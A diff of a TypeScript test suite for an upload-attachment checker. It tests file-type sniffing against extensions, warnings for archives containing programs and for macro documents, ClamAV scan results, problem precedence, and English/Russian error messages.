+    ['a .bmp of unknown bytes', 'random.bin', 'scan.bmp', { code: 'content_mismatch', extension: 'bmp', actual: 'unknown' }, 'The content of this file is not .bmp', 'Содержимое файла не соответствует формату .bmp'],
+  ])('refuses %s', async (_label, file, name, problem, english, russian) => {
+    const found = await checkOnDisk(file, name);
+    expect(found).toEqual(problem);
+    expect(hint(found)).toEqual([english, russian]);
+  });
+});
+
+describe('contentProblem, the part incoming files are warned by', () => {
+  it('says nothing of a file that is what its name says, whatever the allowed formats', async () => {
+    expect(contentProblem('setup.msi', await inspectFile(sample('setup.msi')))).toBeNull();
+    expect(contentProblem('photos.zip', await inspectFile(sample('photos.zip')))).toBeNull();
+  });
+
+  it('warns of an archive with a program in it, and of an .xls with macros', async () => {
+    expect(contentProblem('photos.zip', await inspectFile(sample('word-folder.zip')))).toEqual({ code: 'contains_program', extension: 'zip', entry: 'setup.exe' });
+    expect(contentProblem('book.xls', await inspectFile(sample('macro-book.xls')))).toEqual({ code: 'macros', extension: 'xls' });
+  });
+
+  it('speaks of a damaged header only where the name promises that image', () => {
+    expect(contentProblem('notes.txt', { kind: 'png', damaged: true })).toBeNull();
+    expect(contentProblem('photo.png', { kind: 'png', damaged: true })).toEqual({ code: 'damaged', extension: 'png' });
+  });
+
+  it('names a format file-type knows by its own name', () => {
+    const problem = contentProblem('scan.pdf', { kind: 'other', format: 'mp4' });
+    expect(problem).toEqual({ code: 'content_mismatch', extension: 'pdf', actual: 'other', format: 'mp4' });
+    expect(hint(problem)).toEqual(['This .pdf is really MP4', 'Файл .pdf на самом деле — MP4']);
+    expect(hint(contentProblem('scan.pdf', { kind: 'program', format: 'jar' }))).toEqual(['This .pdf is really a program (JAR)', 'Файл .pdf на самом деле — программа (JAR)']);
   });
 });
 
 describe('matchesExtension', () => {
-  it.each<[string, SniffKind, boolean]>([
+  it.each<[string, FileKind, boolean]>([
     ['jpeg', 'jpeg', true],
     ['jpg', 'jpeg', true],
     ['JPG', 'jpeg', true],
@@ -304,10 +292,14 @@ describe('matchesExtension', () => {
     ['bmp', 'bmp', true],
     ['pdf', 'pdf', true],
     ['pdf', 'text', false],
-    ['doc', 'ole', true],
+    ['pdf', 'html', false],
+    ['doc', 'doc', true],
     ['doc', 'rtf', true],
+    ['doc', 'xls', false],
+    ['doc', 'msi', false],
+    ['doc', 'ole', false],
     ['rtf', 'rtf', true],
-    ['rtf', 'ole', false],
+    ['rtf', 'doc', false],
     ['docx', 'docx', true],
     ['docx', 'zip', false],
     ['docx', 'xlsx', false],
@@ -317,16 +309,18 @@ describe('matchesExtension', () => {
     ['odt', 'zip', true],
     ['txt', 'exe', false],
     ['odt', 'elf', false],
+    ['txt', 'msi', false],
+    ['txt', 'program', false],
   ])('.%s with %s content: %s', (extension, kind, expected) => {
     expect(matchesExtension(extension, { kind })).toBe(expected);
   });
 });
 
 describe('checkFile', () => {
-  const pdf = { kind: 'pdf' } as const;
+  const pdf: ContentVerdict = { kind: 'pdf' };
 
   it('refuses a format the config does not allow, naming the allowed ones', () => {
-    expect(checkFile({ name: 'archive.zip', size: 10, sniffed: { kind: 'zip' } }, RULES)).toEqual({
+    expect(checkFile({ name: 'archive.zip', size: 10, content: { kind: 'zip' } }, RULES)).toEqual({
       code: 'format_not_allowed',
       extension: 'zip',
       allowed: ['jpeg', 'jpg', 'png', 'pdf', 'doc', 'docx', 'rtf', 'bmp'],
@@ -334,41 +328,53 @@ describe('checkFile', () => {
   });
 
   it.each(['README', '.pdf', 'scan.'])('counts %j as having no extension, which is not allowed', (name) => {
-    expect(checkFile({ name, size: 10, sniffed: pdf }, RULES)).toMatchObject({ code: 'format_not_allowed', extension: '' });
+    expect(checkFile({ name, size: 10, content: pdf }, RULES)).toMatchObject({ code: 'format_not_allowed', extension: '' });
   });
 
   it('reads the extension case-insensitively', () => {
-    expect(checkFile({ name: 'SCAN.PDF', size: 10, sniffed: pdf }, RULES)).toBeNull();
-    expect(checkFile({ name: 'Photo.JpEg', size: 10, sniffed: { kind: 'jpeg' } }, RULES)).toBeNull();
+    expect(checkFile({ name: 'SCAN.PDF', size: 10, content: pdf }, RULES)).toBeNull();
+    expect(checkFile({ name: 'Photo.JpEg', size: 10, content: { kind: 'jpeg' } }, RULES)).toBeNull();
   });
 
   it('takes allowed formats in any case, as written by hand', () => {
-    expect(checkFile({ name: 'a.pdf', size: 10, sniffed: pdf }, { allowedFormats: ['PDF'], maxFileSize: 100 })).toBeNull();
+    expect(checkFile({ name: 'a.pdf', size: 10, content: pdf }, { allowedFormats: ['PDF'], maxFileSize: 100 })).toBeNull();
   });
 
   it('allows a file of exactly the per-file limit and refuses one byte more', () => {
-    expect(checkFile({ name: 'a.pdf', size: 30 * MB, sniffed: pdf }, RULES)).toBeNull();
-    expect(checkFile({ name: 'a.pdf', size: 30 * MB + 1, sniffed: pdf }, RULES)).toEqual({ code: 'too_large', size: 30 * MB + 1, limit: 30 * MB });
+    expect(checkFile({ name: 'a.pdf', size: 30 * MB, content: pdf }, RULES)).toBeNull();
+    expect(checkFile({ name: 'a.pdf', size: 30 * MB + 1, content: pdf }, RULES)).toEqual({ code: 'too_large', size: 30 * MB + 1, limit: 30 * MB });
   });
 
   it('refuses an empty file', () => {
-    expect(checkFile({ name: 'a.pdf', size: 0, sniffed: { kind: 'unknown' } }, RULES)).toEqual({ code: 'empty' });
+    expect(checkFile({ name: 'a.pdf', size: 0, content: { kind: 'unknown' } }, RULES)).toEqual({ code: 'empty' });
   });
 
   it('refuses a file that could not be read, with the reason', () => {
-    expect(checkFile({ name: 'a.pdf', size: 10, sniffed: null, readError: 'EACCES' }, RULES)).toEqual({ code: 'unreadable', reason: 'EACCES' });
-    expect(checkFile({ name: 'a.pdf', size: 10, sniffed: null }, RULES)).toEqual({ code: 'unreadable', reason: 'unknown error' });
+    expect(checkFile({ name: 'a.pdf', size: 10, content: null, readError: 'EACCES' }, RULES)).toEqual({ code: 'unreadable', reason: 'EACCES' });
+    expect(checkFile({ name: 'a.pdf', size: 10, content: null }, RULES)).toEqual({ code: 'unreadable', reason: 'unknown error' });
   });
 
   // Each row has every problem of the rows below it too, so each row pins one step of the order.
-  it.each<[string, { name: string; size: number; sniffed: { kind: SniffKind } | null }, FileProblem['code']]>([
-    ['unreadable before empty', { name: 'a.exe', size: 0, sniffed: null }, 'unreadable'],
-    ['empty before format', { name: 'a.exe', size: 0, sniffed: { kind: 'exe' } }, 'empty'],
-    ['format before content and size', { name: 'a.exe', size: 40 * MB, sniffed: { kind: 'exe' } }, 'format_not_allowed'],
-    ['content before size', { name: 'a.pdf', size: 40 * MB, sniffed: { kind: 'exe' } }, 'content_mismatch'],
-    ['size last', { name: 'a.pdf', size: 40 * MB, sniffed: pdf }, 'too_large'],
+  const infected = { status: 'infected', signature: 'Eicar-Test-Signature' } as const;
+  const away = { status: 'not_scanned', reason: 'clamd at 127.0.0.1:3310: connection refused' } as const;
+  it.each<[string, Parameters<typeof checkFile>[0], FileProblem['code']]>([
+    ['unreadable before empty', { name: 'a.exe', size: 0, content: null, scan: infected }, 'unreadable'],
+    ['empty before a virus', { name: 'a.exe', size: 0, content: { kind: 'exe' }, scan: infected }, 'empty'],
+    ['a virus before the format', { name: 'a.exe', size: 40 * MB, content: { kind: 'exe' }, scan: infected }, 'infected'],
+    ['format before content and size', { name: 'a.exe', size: 40 * MB, content: { kind: 'exe' }, scan: away }, 'format_not_allowed'],
+    ['content before size', { name: 'a.pdf', size: 40 * MB, content: { kind: 'exe' }, scan: away }, 'content_mismatch'],
+    ['a program inside before macros', { name: 'a.docx', size: 40 * MB, content: { kind: 'docx', program: 'x.exe', macros: true }, scan: away }, 'contains_program'],
+    ['macros before size', { name: 'a.docx', size: 40 * MB, content: { kind: 'docx', macros: true }, scan: away }, 'macros'],
+    ['a damaged header before size', { name: 'a.png', size: 40 * MB, content: { kind: 'png', damaged: true }, scan: away }, 'damaged'],
+    ['size before the unavailable scan', { name: 'a.pdf', size: 40 * MB, content: pdf, scan: away }, 'too_large'],
+    ['the unavailable scan last', { name: 'a.pdf', size: 10, content: pdf, scan: away }, 'scan_unavailable'],
   ])('precedence: %s', (_label, file, code) => {
     expect(checkFile(file, RULES)?.code).toBe(code);
+  });
+
+  it('passes a clean scan and no scanner alike', () => {
+    expect(checkFile({ name: 'a.pdf', size: 10, content: pdf, scan: { status: 'clean' } }, RULES)).toBeNull();
+    expect(checkFile({ name: 'a.pdf', size: 10, content: pdf, scan: { status: 'off' } }, RULES)).toBeNull();
   });
 });
 
@@ -456,9 +462,6 @@ describe('dialogAccept', () => {
 });
 
 describe('problemMessage', () => {
-  const en = translator('en');
-  const ru = translator('ru');
-
   it.each<[FileProblem, PolicyMessageKey, Record<string, string | number>, string]>([
     [
       { code: 'format_not_allowed', extension: 'zip', allowed: ['pdf', 'jpg'] },
@@ -483,13 +486,25 @@ describe('problemMessage', () => {
       { code: 'content_mismatch', extension: 'jpg', actual: 'pdf' },
       'attachments.problem.mismatch',
       { extension: 'jpg', actual: 'PDF' },
-      'This file is really PDF, not .jpg',
+      'This .jpg is really PDF',
     ],
     [
       { code: 'content_mismatch', extension: 'pdf', actual: 'exe' },
       'attachments.problem.executable',
       { extension: 'pdf', actual: 'EXE' },
-      'This file is really a program (EXE), not .pdf',
+      'This .pdf is really a program (EXE)',
+    ],
+    [
+      { code: 'infected', signature: 'Eicar-Test-Signature' },
+      'attachments.problem.infected',
+      { signature: 'Eicar-Test-Signature' },
+      'A virus was found in this file: Eicar-Test-Signature',
+    ],
+    [
+      { code: 'scan_unavailable', reason: 'clamd at 127.0.0.1:3310: connection refused' },
+      'attachments.problem.scanUnavailable',
+      { reason: 'clamd at 127.0.0.1:3310: connection refused' },
+      'Not checked for viruses yet: the virus check is unavailable (clamd at 127.0.0.1:3310: connection refused)',
     ],
     [
       { code: 'content_mismatch', extension: 'png', actual: 'unknown' },
